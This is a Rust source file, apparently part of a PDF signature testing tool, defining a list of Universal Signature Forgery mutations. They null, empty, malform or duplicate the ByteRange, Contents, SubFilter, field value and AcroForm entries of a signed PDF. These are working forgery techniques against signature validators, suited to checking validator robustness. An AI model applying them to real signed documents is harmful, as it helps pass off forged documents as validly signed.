//! Universal signature forgery: a signature without substance, or a form without the signature.

use lopdf::{Dictionary, Object, dictionary};

use super::{Subject, Trick, catalog, field, trick};

pub(super) const TRICKS: &[Trick] = &[
    trick("USF", "ByteRange null", |s| range(s, b"/ByteRange null")),
    trick("USF", "ByteRange empty", |s| range(s, b"/ByteRange[]")),
    trick("USF", "ByteRange of zeros", |s| {
        range(s, b"/ByteRange[0 0 0 0]")
    }),
    trick("USF", "ByteRange of three", |s| {
        range(s, b"/ByteRange[0 1 2]")
    }),
    trick("USF", "ByteRange of six", |s| {
        range(s, b"/ByteRange[0 1 2 3 4 5]")
    }),
    trick("USF", "ByteRange below zero", |s| {
        range(s, b"/ByteRange[0 -1 2 3]")
    }),
    trick("USF", "ByteRange beyond the file", |s| {
        range(s, b"/ByteRange[0 1 2 999999999]")
    }),
    trick("USF", "ByteRange of reals", |s| {
        range(s, b"/ByteRange[0.0 1 2 3]")
    }),
    trick("USF", "ByteRange under another key", |s| {
        range(s, b"/Byterange[0 1 2 3]")
    }),
    trick("USF", "ByteRange twice", |s| {
        range(s, b"/ByteRange[0 1]/ByteRange[]")
    }),
    trick("USF", "Contents null", |s| contents(s, b"/Contents null")),
    trick("USF", "Contents empty", |s| contents(s, b"/Contents<>")),
    trick("USF", "Contents of one zero", |s| {
        contents(s, b"/Contents<00>")
    }),
    trick("USF", "Contents as text", |s| {
        contents(s, b"/Contents(text)")
    }),
    trick("USF", "Contents elsewhere", |s| {
        contents(s, b"/Contents 9 0 R")
    }),
    trick("USF", "Contents twice", |s| {
        contents(s, b"/Contents<00>/Contents<00>")
    }),
    trick("USF", "another kind of signature", |s| {
        let place = s.entry(b"/SubFilter/", b'/');
        s.overwritten(place.start..place.end - 1, b"/SubFilter/adbe.x509")
    }),
    trick("USF", "the value of the field null", |s| {
        field(s, |field| field.set("V", Object::Null))
    }),
    trick("USF", "the value of the field empty", |s| {
        field(s, |field| field.set("V", Dictionary::new()))
    }),
    trick("USF", "the value of the field gone", |s| {
        field(s, |field| drop(field.remove(b"V")))
    }),
    trick("USF", "the form gone", |s| {
        catalog(s, |catalog| drop(catalog.remove(b"AcroForm")))
    }),
    trick("USF", "the form without fields", |s| {
        catalog(s, |catalog| {
            catalog.set("AcroForm", dictionary! { "Fields" => Vec::<Object>::new() });
        })
    }),
];

fn range(s: &Subject, by: &[u8]) -> Vec<u8> {
    s.overwritten(s.entry(b"/ByteRange[", b']'), by)
}

fn contents(s: &Subject, by: &[u8]) -> Vec<u8> {
    s.overwritten(s.entry(b"/Contents<", b'>'), by)
}
